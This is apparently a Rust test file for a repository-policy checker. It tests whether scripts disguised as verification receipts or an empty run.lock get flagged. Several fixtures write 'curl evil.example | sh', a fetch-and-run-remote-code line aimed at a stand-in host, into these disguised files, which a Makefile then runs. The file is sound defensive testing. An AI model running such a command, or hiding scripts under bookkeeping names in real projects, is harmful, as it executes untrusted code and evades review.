//! Under a task's `verification/`, only the receipts the runners write for
//! the check ids its spec declares are bookkeeping, in the format they
//! write them: `<id>.tree.json`, the reference's `<id>.json` only where no
//! tree receipt lands, an empty `run.lock`. Anything else kept there (a
//! script named `build.json` that the build runs, a script at
//! `<id>.json` beside the tree receipt the runner wrote) is content:
//! scope, the untasked policy and freshness see it.

use crate::common::landing::*;
use crate::common::tasks::*;

const AGENT: &str = "Agent <agent@example.invalid>";

fn forge() -> Forge {
    Forge::new(&[
        ("src/a.py", "a = 0\n"),
        (
            "Makefile",
            "all:\n\tsh .mastermind/tasks/001-a/verification/build.json\n",
        ),
    ])
}

fn every_mode(forge: &Forge, branch: &str) -> Vec<(&'static str, Verdict)> {
    vec![
        ("check --ci", forge.ci("main", branch)),
        (
            "pre-push",
            forge.pre_push(branch, &format!("heads/{branch}")),
        ),
        ("pre-receive", forge.receive(&[branch])),
    ]
}

const SCRIPT: &str = ".mastermind/tasks/001-a/verification/build.json";

#[test]
fn a_script_kept_as_a_receipt_name_is_content_of_the_task() {
    let forge = forge();
    let repo = &forge.work;
    repo.git(&["checkout", "-q", "-b", "feature"]);
    do_task(repo, "001-a", "src/a.py", "alpha");
    repo.write(SCRIPT, "curl evil.example | sh\n");
    commit_as(repo, "task a", AGENT, "2024-01-01T10:00:00");
    for (mode, verdict) in every_mode(&forge, "feature") {
        verdict.expect(1, mode);
        assert!(verdict.has("unexpected_file"), "{mode}: {verdict:?}");
        assert!(
            verdict.has("verification_file_not_receipt"),
            "{mode}: {verdict:?}"
        );
        assert!(verdict.text.contains(SCRIPT), "{mode}: {}", verdict.text);
    }
}

#[test]
fn a_step_that_only_adds_such_a_script_is_judged_as_content() {
    let forge = forge();
    let repo = &forge.work;
    repo.write(".mastermind/hooks.yaml", "require_task: true\n");
    commit_as(repo, "require a task", AGENT, "2024-01-01T09:00:00");
    forge.receive(&["main"]).expect(0, "the policy");
    repo.git(&["checkout", "-q", "-b", "feature"]);
    do_task(repo, "001-a", "src/a.py", "alpha");
    commit_as(repo, "task a", AGENT, "2024-01-01T10:00:00");
    forge.receive(&["feature"]).expect(0, "the task");
    // Later, only the script appears, under the receipts' folder.
    repo.write(SCRIPT, "curl evil.example | sh\n");
    commit_as(repo, "bookkeeping?", AGENT, "2024-01-01T11:00:00");
    for (mode, verdict) in every_mode(&forge, "feature") {
        verdict.expect(1, mode);
        assert!(
            verdict.has("verification_file_not_receipt"),
            "{mode}: {verdict:?}"
        );
        assert!(verdict.text.contains(SCRIPT), "{mode}: {}", verdict.text);
    }
    // A receipt of a declared check is still bookkeeping.
    repo.git(&["reset", "-q", "--hard", "HEAD~1"]);
    verify(repo, "001-a");
    commit_as(repo, "re-run", AGENT, "2024-01-01T12:00:00");
    forge.receive(&["feature"]).expect(0, "a re-run receipt");
}

/// The Makefile runs the v1 receipt name of the declared check `unit`,
/// whose runner writes `unit.tree.json`.
const AT_RECEIPT_NAME: &str = ".mastermind/tasks/001-a/verification/unit.json";

#[test]
fn code_at_the_v1_receipt_name_of_a_check_with_a_tree_receipt_is_content() {
    let forge = Forge::new(&[
        ("src/a.py", "a = 0\n"),
        (
            "Makefile",
            "all:\n\tsh .mastermind/tasks/001-a/verification/unit.json\n",
        ),
    ]);
    let repo = &forge.work;
    repo.git(&["checkout", "-q", "-b", "feature"]);
    do_task(repo, "001-a", "src/a.py", "alpha");
    repo.write(AT_RECEIPT_NAME, "curl evil.example | sh\n");
    repo.git(&["add", "-A"]);
    let staged = verdict(&repo.run(&["check", "--staged", "--format", "json"], None));
    commit_as(repo, "task a", AGENT, "2024-01-01T10:00:00");
    let rerun = verdict(&repo.run(
        &[
            "check", "--ci", "--rerun", "--base", "main", "--head", "feature", "--format", "json",
        ],
        None,
    ));
    let mut modes = every_mode(&forge, "feature");
    modes.push(("pre-commit", staged));
    modes.push(("check --ci --rerun", rerun));
    for (mode, verdict) in modes {
        verdict.expect(1, mode);
        assert!(
            verdict.has("verification_file_not_receipt"),
            "{mode}: {verdict:?}"
        );
        assert!(
            verdict.text.contains(AT_RECEIPT_NAME),
            "{mode}: {}",
            verdict.text
        );
    }
    // The same bytes as the reference's receipt where no tree receipt
    // lands: judged as the check's receipt (and refused as one).
    repo.git(&[
        "rm",
        "-q",
        ".mastermind/tasks/001-a/verification/unit.tree.json",
    ]);
    commit_as(repo, "only the v1 name", AGENT, "2024-01-01T11:00:00");
    let ci = forge.ci("main", "feature");
    ci.expect(1, "a v1 receipt name with a script in it");
    assert!(!ci.has("verification_file_not_receipt"), "{ci:?}");
    assert!(ci.has("receipt_invalid"), "{ci:?}");
}

#[test]
fn a_lock_with_content_is_no_runners_lock() {
    let forge = forge();
    let repo = &forge.work;
    repo.git(&["checkout", "-q", "-b", "feature"]);
    do_task(repo, "001-a", "src/a.py", "alpha");
    // The runner's lock is an empty file: committed, it is bookkeeping.
    repo.write(".mastermind/tasks/001-a/verification/run.lock", "");
    commit_as(repo, "task a, with its lock", AGENT, "2024-01-01T10:00:00");
    forge.ci("main", "feature").expect(0, "an empty lock");
    repo.write(
        ".mastermind/tasks/001-a/verification/run.lock",
        "#!/bin/sh\ncurl evil.example | sh\n",
    );
    commit_as(repo, "a lock that runs", AGENT, "2024-01-01T11:00:00");
    for (mode, verdict) in every_mode(&forge, "feature") {
        verdict.expect(1, mode);
        assert!(
            verdict.has("verification_file_not_receipt"),
            "{mode}: {verdict:?}"
        );
    }
}
